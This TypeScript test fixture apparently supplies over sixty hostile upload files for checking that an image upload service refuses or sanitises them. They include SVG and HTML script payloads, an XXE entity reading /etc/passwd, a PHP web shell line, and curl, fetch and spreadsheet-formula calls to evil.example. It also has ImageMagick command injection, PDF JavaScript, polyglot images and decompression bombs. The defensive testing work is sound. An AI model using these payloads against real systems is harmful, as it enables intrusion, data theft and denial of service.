import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A marker that must never be in a stored file. */
export const MARK = 'RIALTO-CANARY';

/** refused: nothing is stored. cleaned: a picture may be stored, without the marker and with other bytes than sent. */
export type HostileFile = { name: string; bytes: Buffer; becomes: 'refused' | 'cleaned' | 'either' };

const script = `<script>alert('${MARK}')</script>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')">${script}</svg>`;
const texts: [string, string][] = [
  ['an SVG with a script', svg],
  ['an SVG behind an XML line', `<?xml version="1.0"?>${svg}`],
  ['an SVG with an outside entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;${MARK}</svg>`],
  ['an SVG behind a byte order mark', `\ufeff${svg}`],
  ['an HTML page', `<!doctype html><html><body>${script}</body></html>`],
  ['a PHP script', `<?php system($_GET['c']); // ${MARK} ?>`],
  ['a shell script', `#!/bin/sh\ncurl http://evil.example # ${MARK}`],
  ['JavaScript', `fetch('//evil.example?${MARK}')`],
  ['JSON', JSON.stringify({ MARK })],
  ['a CSV with a formula', `=HYPERLINK("http://evil.example","${MARK}")`],
  [
    'an ImageMagick script',
    `push graphic-context\nfill 'url(https://evil.example/"|id; ${MARK}")'\npop graphic-context`,
  ],
  ['an EPS program', `%!PS-Adobe-3.0 EPSF-3.0\n(${MARK}) show`],
  ['a PDF with an action', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${MARK})>>>>endobj`],
  ['plain words', MARK],
];

const heads: [string, string][] = [
  ['a ZIP archive', '504b0304'],
  ['a RAR archive', '526172211a07'],
  ['a gzip stream', '1f8b0800'],
  ['a Windows program', '4d5a9000'],
  ['a Linux program', '7f454c46'],
  ['a Java class', 'cafebabe'],
  ['WebAssembly', '0061736d'],
  ['a WebP header', '52494646000000005745425056503820'],
  ['an AVIF header', '0000001c6674797061766966'],
  ['a HEIC header', '0000001c6674797068656963'],
  ['a TIFF header', '49492a00'],
  ['a big TIFF header', '49492b00'],
  ['a BMP header', '424d'],
  ['an icon', '00000100'],
  ['a JPEG 2000 header', '0000000c6a5020200d0a87'],
  ['a JPEG XL header', 'ff0a'],
  ['a Photoshop header', '38425053'],
  ['an MP4 film', '00000018667479706d703432'],
  ['an MP3', '494433'],
  ['an old Office document', 'd0cf11e0a1b11ae1'],
  ['a SQLite database', '53514c69746520666f726d6174203300'],
  ['half a JPEG mark', 'ffd8'],
  ['half a PNG mark', '89504e47'],
  ['half a GIF mark', '474946'],
  ['a GIF of another year', '474946383861'],
  ['zeros', '0000000000000000'],
  ['a text mark', 'efbbbf'],
];

/** At least sixty malicious files. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpeg, png, gif] = await Promise.all([aPicture('jpeg'), aPicture('png'), aPicture('gif')]);
  const markBytes = Buffer.from(`${script}<?php ${MARK} ?>${svg}`);
  const marked = (bytes: Buffer) => Buffer.concat([bytes, markBytes]);
  const refused = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, becomes: 'refused' });
  const cleaned = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, becomes: 'cleaned' });
  const either = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, becomes: 'either' });
  return [
    ...texts.map(([name, text]) => refused(name, Buffer.from(text))),
    ...heads.map(([name, hex]) => refused(name, marked(Buffer.from(hex, 'hex')))),
    ...Object.entries({ jpeg, png, gif }).flatMap(([name, bytes]) => [
      cleaned(`a ${name} with a page behind it`, marked(bytes)),
      cleaned(`a ${name} with an archive behind it`, Buffer.concat([bytes, Buffer.from('504b0304', 'hex'), markBytes])),
      refused(`the mark of a ${name} before a page`, marked(bytes.subarray(0, 8))),
      refused(`only the first bytes of a ${name}`, bytes.subarray(0, 24)),
      either(`a ${name} whose middle was overwritten`, overwritten(bytes, markBytes)),
      either(`a ${name} that ends in the middle`, bytes.subarray(0, Math.floor(bytes.length / 2))),
    ]),
    cleaned('a JPEG with a place and a camera', await sharp(jpeg).withExif(exif).jpeg().toBuffer()),
    cleaned('a JPEG with a comment', withComment(jpeg, markBytes)),
    cleaned('a PNG with a text', withChunk(png, 'tEXt', Buffer.from(`Comment\0${MARK}`))),
    cleaned('a PNG with XMP', withChunk(png, 'iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0<x>${MARK}</x>`))),
    refused('a PNG of 256 megapixels in 30 KB', pngOf(16_000, 16_000)),
    refused('a PNG of four milliards of pixels', pngOf(65_535, 65_535)),
    refused('a PNG without width', pngOf(0, 100)),
    refused('a PNG that is one very long line', pngOf(2_000_000_000, 1)),
    refused('a GIF with a thousand frames', await framesOf(1_000)),
    refused('a GIF of 65,535 pixels a side', gifOf(65_535, 65_535)),
  ];
}

const exif = {
  IFD0: { Make: MARK, Artist: MARK, ImageDescription: MARK },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '33/1 6/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '27/1 6/1 0/1' },
};

function aPicture(format: 'jpeg' | 'png' | 'gif'): Promise<Buffer> {
  const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
  const picture = sharp({ create: { width: 120, height: 90, channels: 3, background: '#246', noise } });
  return picture.toFormat(format).toBuffer();
}

function overwritten(bytes: Buffer, mark: Buffer): Buffer {
  const copy = Buffer.from(bytes);
  mark.copy(copy, Math.floor(copy.length / 2));
  return copy;
}

function withComment(jpeg: Buffer, comment: Buffer): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)]);
}

function chunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), content]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, check]);
}

const PNG_HEAD = Buffer.from('89504e470d0a1a0a', 'hex');
const IHDR_END = 8 + 25;

function withChunk(png: Buffer, type: string, content: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, IHDR_END), chunk(type, content), png.subarray(IHDR_END)]);
}

/** A small file whose header claims very many pixels. */
function pngOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const line = Buffer.alloc(Math.min(1 + Math.ceil(width / 8), 4_000));
  const lines = Buffer.concat(Array.from({ length: Math.min(height, 16_000) }, () => line));
  return Buffer.concat([
    PNG_HEAD,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(lines)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function gifOf(width: number, height: number): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  const descriptor = Buffer.from('2c00000000000000000002', 'hex');
  descriptor.writeUInt16LE(width, 5);
  descriptor.writeUInt16LE(height, 7);
  return Buffer.concat([head, Buffer.alloc(6), descriptor, Buffer.from('024401003b', 'hex')]);
}

async function framesOf(count: number): Promise<Buffer> {
  const height = 2;
  const pixels = Buffer.alloc(2 * height * count * 3, 0).map((_, index) => (index * 31) % 256);
  const raw = { width: 2, height: height * count, channels: 3, pageHeight: height } as const;
  return sharp(pixels, { raw }).gif({ loop: 0, effort: 1 }).toBuffer();
}
